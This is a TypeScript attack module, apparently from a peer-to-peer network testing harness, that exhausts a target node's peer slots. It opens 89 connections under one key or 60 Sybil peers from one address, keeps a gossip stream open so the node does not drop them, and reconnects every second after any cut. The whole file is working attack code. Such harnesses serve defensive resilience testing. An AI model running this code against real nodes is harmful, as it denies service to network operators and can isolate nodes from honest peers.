/** Takes every place that a node has for peers: 89 connections of one key, or 60 peers at one address, and again if cut. */
import { setTimeout as delay } from "node:timers/promises";
import { attacker } from "../wire/attacker.ts";
import { RawPeer } from "../wire/raw-peer.ts";
import { specOf } from "../wire/spec.ts";

const connectionsOfOneKey = 89;
const sybils = 60;
const pauseMs = 1_000;

attacker(async (attack) => {
  const spec = specOf(attack.order);
  const { network, targets, variant } = attack.order;
  const [target = ""] = targets;
  const isOneKey = variant === "one-key";
  const peers = await Promise.all(
    Array.from({ length: isOneKey ? 1 : sybils }, () => RawPeer.open({ spec, network })),
  );
  await attack.begin();
  const open = async (peer: RawPeer) => {
    const connection = await peer.connect(target);
    connection.addEventListener("close", () => attack.cut());
    attack.count(1);
    // A peer without a gossip stream would be cut for that.
    if (peer.node.getConnections().length === 1) await peer.gossip(connection, []);
  };
  while (!attack.signal.aborted) {
    const wanted = peers.flatMap((peer) => {
      const missing = (isOneKey ? connectionsOfOneKey : 1) - peer.node.getConnections().length;
      return Array.from({ length: Math.max(0, missing) }, () => peer);
    });
    await Promise.allSettled(wanted.map((peer) => open(peer)));
    await delay(pauseMs, undefined, { signal: attack.signal }).catch(() => {});
  }
});
